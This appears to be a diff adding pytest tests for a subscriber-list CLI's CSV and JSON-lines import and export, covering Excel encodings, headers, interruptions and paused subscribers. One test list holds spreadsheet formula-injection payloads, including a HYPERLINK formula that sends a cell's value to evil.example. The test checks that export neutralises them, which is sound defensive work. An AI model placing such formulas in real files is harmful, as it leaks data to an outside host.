@@ -1,5 +1,6 @@
 """Many subscribers at once: `notifier subscribers import/export` (CSV, JSON lines), and the config
 file's [[subscribers]] applied when the file changes instead of at every start."""
+import csv
 import json
 
 import pytest
@@ -55,6 +56,64 @@ def test_a_unicode_line_separator_inside_a_value_survives_export_and_import(cli,
     assert [(r["name"], r["profiles"]) for r in listed(cli)] == [(r["name"], r["profiles"]) for r in before]
 
 
+NAMES_A_SPREADSHEET_RUNS = ['=HYPERLINK("https://evil.example/?"&A1,"Ada")', "+1+1", "-2", "@SUM(A1:A9)",
+                            "'=quoted already", "''+twice"]
+
+
+def test_csv_export_starts_cells_a_spreadsheet_would_run_with_a_quote_and_import_takes_it_off(cli, tmp_path,
+                                                                                             monkeypatch):
+    for i, name in enumerate(NAMES_A_SPREADSHEET_RUNS + ["'Tis Ada"]):
+        assert cli("subscribe", f"u{i}@example.org", "--keywords=-diffusion, kv cache", "--name", name)[0] == 0
+    before = listed(cli)
+    path = tmp_path / "team.csv"
+    assert cli("subscribers", "export", str(path))[0] == 0
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        cells = list(csv.DictReader(fh))
+    assert [c["name"] for c in cells] == ["'" + n for n in NAMES_A_SPREADSHEET_RUNS] + ["'Tis Ada"]
+    assert {c["profiles"] for c in cells} == {"'-diffusion, kv cache"}
+    monkeypatch.setenv("NOTIFIER_DATABASE_URL", f"sqlite:///{tmp_path / 'other.sqlite'}")
+    assert cli("subscribers", "import", str(path))[0] == 0
+    assert [(r["name"], r["profiles"]) for r in listed(cli)] == [(r["name"], r["profiles"]) for r in before]
+
+
+def test_a_csv_written_by_hand_keeps_its_leading_minus_and_apostrophe(cli, tmp_path):
+    path = tmp_path / "team.csv"
+    path.write_text("address,name,profiles\nada@example.org,'Tis Ada,\"-diffusion, kv cache\nagents\"\n",
+                    encoding="utf-8")
+    assert cli("subscribers", "import", str(path))[0] == 0
+    assert [(r["name"], r["profiles"]) for r in listed(cli)] == [("'Tis Ada", ["-diffusion, kv cache", "agents"])]
+
+
+def test_a_csv_file_export_starts_with_the_byte_order_mark_excel_needs_and_standard_output_does_not(cli, tmp_path):
+    assert cli("subscribe", "zoe@example.org", "-k", "agents", "--name", "Zoë")[0] == 0
+    for fmt in ("csv", "jsonl"):
+        assert cli("subscribers", "export", str(tmp_path / f"team.{fmt}"))[0] == 0
+    assert (tmp_path / "team.csv").read_bytes().startswith("\ufeffid,name,".encode())
+    assert (tmp_path / "team.jsonl").read_bytes().startswith(b'{"id": 1, "name": "Zo\xc3\xab"')
+    assert cli("subscribers", "export", "--format", "csv")[1].startswith("id,name,")
+
+
+def test_an_export_interrupted_by_ctrl_c_leaves_the_older_file_and_no_temporary_one(cli, tmp_path, monkeypatch):
+    """A Ctrl-C while the rows were written left a hidden .notifier-* file of addresses behind."""
+    from notifier import subscriber_files
+
+    for i in range(3):
+        assert cli("subscribe", f"u{i}@example.org", "-k", "agents")[0] == 0
+    path = tmp_path / "team.csv"
+    path.write_text("the older export")
+    rows_written = []
+
+    def interrupted(text):
+        rows_written.append(text)
+        if len(rows_written) == 20:
+            raise KeyboardInterrupt
+        return text
+    monkeypatch.setattr(subscriber_files, "_guarded", interrupted)
+    assert cli("subscribers", "export", str(path)) == (130, "", "notifier: interrupted\n")
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
+    assert path.read_text() == "the older export"
+
+
 def test_csv_written_by_hand_is_imported_with_defaults(cli, tmp_path):
     path = tmp_path / "team.csv"
     path.write_text("address,profiles,max_items,active\n"
@@ -80,6 +139,57 @@ def test_csv_saved_by_excel_with_semicolons_or_tabs_bom_and_crlf_is_imported(cli
         ("#vision", "#vision", ["segmentation"], None, True)]
 
 
+def test_a_csv_saved_by_excel_on_windows_in_windows_1252_is_imported_and_said_so(cli, tmp_path):
+    path = tmp_path / "team.csv"
+    path.write_bytes("name;address;profiles\r\nZoë Müller;zoe@example.org;“kv cache”, MoE\r\n".encode("cp1252"))
+    assert cli("subscribers", "import", str(path)) == (
+        0, f"imported {path}: 1 added, 0 updated, 0 unchanged\n",
+        f'{path}: not UTF-8, so read as Windows-1252 (Excel\'s "CSV"); if a name looks wrong, save the file as '
+        '"CSV UTF-8" and import it again\n')
+    assert [(r["name"], r["profiles"]) for r in listed(cli)] == [("Zoë Müller", ["“kv cache”, MoE"])]
+
+
+def test_a_tab_separated_file_saved_by_excel_as_unicode_text_is_imported(cli, tmp_path):
+    path = tmp_path / "team.csv"
+    path.write_bytes("name\taddress\tprofiles\r\nŁukasz 李\tlukasz@example.org\tagents\r\n".encode("utf-16"))
+    assert cli("subscribers", "import", str(path)) == (0, f"imported {path}: 1 added, 0 updated, 0 unchanged\n", "")
+    assert [r["name"] for r in listed(cli)] == ["Łukasz 李"]
+
+
+def test_a_file_neither_utf8_nor_windows_1252_is_one_line_naming_the_line_and_what_to_do(cli, tmp_path):
+    path = tmp_path / "team.csv"
+    path.write_bytes(b"address,profiles\nada@example.org,agents\nbob@example.org,x\x81y\n")
+    assert cli("subscribers", "import", str(path)) == (1, "", (
+        f'notifier: error: {path}: line 3: neither UTF-8 nor Windows-1252 (byte 0x81): save it as UTF-8 '
+        '(Excel: "CSV UTF-8") and import it again\n'))
+    assert listed(cli) == []
+
+
+@pytest.mark.parametrize("name", ["team.xlsx", "team.csv"], ids=["workbook", "workbook-renamed-csv"])
+def test_an_excel_workbook_given_for_import_is_one_line_asking_for_csv(cli, tmp_path, name):
+    import zipfile
+
+    path = tmp_path / name
+    with zipfile.ZipFile(path, "w") as book:          # an .xlsx is a zip of XML parts
+        book.writestr("xl/worksheets/sheet1.xml", "<worksheet><sheetData/></worksheet>")
+    assert cli("subscribers", "import", str(path)) == (1, "", (
+        f'notifier: error: {path}: a spreadsheet workbook, not CSV: use a .csv file, which spreadsheets open and save '
+        '(Excel: "CSV UTF-8")\n'))
+
+
+@pytest.mark.parametrize("sep", [",", ";"])
+def test_empty_columns_excel_saves_right_of_the_table_are_ignored_and_a_value_in_one_is_named(cli, tmp_path, sep):
+    path = tmp_path / "team.csv"
+    path.write_bytes(sep.join(["address", "profiles", "", ""]).encode() + b"\r\n"
+                     + sep.join(["ada@example.org", "agents", "", ""]).encode() + b"\r\n")
+    assert cli("subscribers", "import", str(path))[0] == 0
+    assert [r["address"] for r in listed(cli)] == ["ada@example.org"]
+    path.write_bytes(path.read_bytes() + sep.join(["bob@example.org", "agents", "", "note"]).encode() + b"\r\n")
+    assert cli("subscribers", "import", str(path))[2] == (
+        f"notifier: error: {path}: line 3: 'note' is in a column without a name in the header\n"
+        f"{path}: nothing imported (1 bad line)\n")
+
+
 def test_a_threshold_with_a_decimal_comma_as_excel_writes_it_in_a_semicolon_csv_is_read(cli, tmp_path):
     path = tmp_path / "team.csv"
     path.write_text("address;profiles;threshold\nzoe@example.org;agents;0,3\n", encoding="utf-8")
@@ -102,6 +212,29 @@ def test_csv_written_by_hand_with_spaces_around_the_separators_is_imported(cli, 
     assert cli("subscribers", "import", str(path))[0] == 0
     assert [(r["address"], r["profiles"], r["timezone"]) for r in listed(cli)] == [
         ("ada@example.org", ["agents"], "Europe/Berlin"), ("bob@example.org", [f"kv cache{sep} MoE"], "UTC")]
+
+
+def test_csv_column_names_typed_in_capitals_or_with_spaces_are_read(cli, tmp_path):
+    path = tmp_path / "team.csv"
+    path.write_text("Name; Address ;PROFILES\nZoë;zoe@example.org;agents\n", encoding="utf-8")
+    assert cli("subscribers", "import", str(path))[0] == 0
+    assert [(r["name"], r["address"], r["profiles"]) for r in listed(cli)] == [("Zoë", "zoe@example.org", ["agents"])]
+
+
+@pytest.mark.parametrize("header, message", [
+    ("address,profiles,address", "column 'address' is there twice: keep one"),
+    ("name,profiles", "no 'address' column: every row needs one"),
+    ("address,name", "no 'profiles' column: every row needs one"),
+    ("address,profiles,E-mail", "unknown column 'E-mail' (columns: id, name, address, channel, profiles, timezone, "
+                                "time, frequency, weekday, max_items, threshold, active, origin, paused)"),
+], ids=["column-twice", "no-address", "no-profiles", "unknown"])
+def test_a_csv_header_missing_or_repeating_a_column_is_one_line_about_line_1(cli, tmp_path, header, message):
+    """A column named twice took the last one's cells; a missing one made every row an error."""
+    path = tmp_path / "team.csv"
+    path.write_text(header + "\n" + "\n".join(f"u{i}@example.org,agents,x@example.org" for i in range(30)) + "\n")
+    assert cli("subscribers", "import", str(path)) == (
+        1, "", f"notifier: error: {path}: line 1: {message}\n{path}: nothing imported (1 bad line)\n")
+    assert listed(cli) == []
 
 
 def test_importing_the_same_file_again_counts_its_rows_unchanged_not_updated(cli, tmp_path):
@@ -300,21 +433,63 @@ def test_subscribers_table_shows_the_first_two_hundred_and_says_how_to_get_the_r
     assert out.splitlines()[-1] == "... and 3 more (203 in all): `notifier subscribers export FILE` writes every one"
 
 
-def test_subscribers_table_counts_the_unsubscribed_and_paused_only_with_all(cli, db_url):
+def test_a_subscribers_table_read_only_in_part_by_head_exits_0_as_every_command_does(db_url, tmp_path):
+    """rich exited 1 when its reader stopped early: `notifier subscribers | head` failed under pipefail."""
+    import os
+    import subprocess
+    import sys
+
+    deliveries_for(db_url, 203, {})
+    env = {**os.environ, "NOTIFIER_DATABASE_URL": db_url, "NOTIFIER_STATE_DIR": str(tmp_path)}
+    proc = subprocess.Popen([sys.executable, "-m", "notifier", "subscribers"], stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, env=env)
+    assert proc.stdout.readline().startswith("┏".encode())
+    proc.stdout.close()                                     # as head does after its lines
+    assert (proc.wait(timeout=60), proc.stderr.read()) == (0, b"")
+
+
+def test_a_terminal_that_is_not_utf8_gets_an_export_in_utf8_and_a_table_without_a_traceback(cli, db_url, tmp_path):
+    import os
+    import subprocess
+    import sys
+
+    assert cli("subscribe", "li@example.org", "-k", "agents", "--name", "李雷")[0] == 0
+    env = {**os.environ, "NOTIFIER_DATABASE_URL": db_url, "NOTIFIER_STATE_DIR": str(tmp_path),
+           "PYTHONIOENCODING": "ascii"}
+    export, table = (subprocess.run([sys.executable, "-m", "notifier", "subscribers", *args], capture_output=True,
+                                    env=env) for args in (["export"], []))
+    assert (export.returncode, export.stderr) == (0, b"") and json.loads(export.stdout)["name"] == "李雷"
+    assert (table.returncode, table.stderr) == (0, b"") and b"| ??" in table.stdout
+
+
+def test_subscribers_table_shows_the_paused_marked_and_the_unsubscribed_only_with_all(cli, db_url):
     from notifier.store import Store
 
     deliveries_for(db_url, 203, {})
     store = Store(db_url)
     subs = store.list_subscribers()
     store.update_subscriber(subs[0].id, active=False)
-    store.update_subscriber(subs[202].id, paused=True)
+    store.update_subscriber(subs[1].id, paused=True)
     store.close()
     _, out, _ = cli("subscribers")
-    assert "│ u0@example.org " not in out and "│ u200@example.org " in out and "│ u201@example.org " not in out
-    assert out.splitlines()[-1] == "... and 1 more (201 in all): `notifier subscribers export FILE` writes every one"
+    assert "│ u0@example.org " not in out and "│ u1@example.org (paused) " in out and "│ u200@example.org " in out
+    assert out.splitlines()[-1] == "... and 2 more (202 in all): `notifier subscribers export FILE` writes every one"
     _, out, _ = cli("subscribers", "--all")
     assert "│ u0@example.org (off) " in out and "│ u200@example.org " not in out
     assert out.splitlines()[-1] == "... and 3 more (203 in all): `notifier subscribers export FILE` writes every one"
+
+
+def test_export_keeps_the_paused_and_says_how_many_who_unsubscribed_it_left_out(cli, tmp_path):
+    for address in ("ada@example.org", "bob@example.org", "cyd@example.org"):
+        assert cli("subscribe", address, "-k", "agents")[0] == 0
+    assert cli("edit", "bob@example.org", "--pause")[0] == 0
+    assert cli("unsubscribe", "cyd@example.org")[0] == 0
+    path = tmp_path / "team.jsonl"
+    assert cli("subscribers", "export", str(path)) == (
+        0, "", f"exported 2 subscribers to {path} (1 who unsubscribed left out: --all adds them)\n")
+    assert [(r["address"], r["paused"]) for r in map(json.loads, path.read_text().splitlines())] == [
+        ("ada@example.org", False), ("bob@example.org", True)]
+    assert cli("subscribers", "export", str(path), "--all")[2] == f"exported 3 subscribers to {path}\n"
 
 
 def test_import_leaves_an_unsubscribed_address_unsubscribed_unless_the_row_says_active(cli, tmp_path):
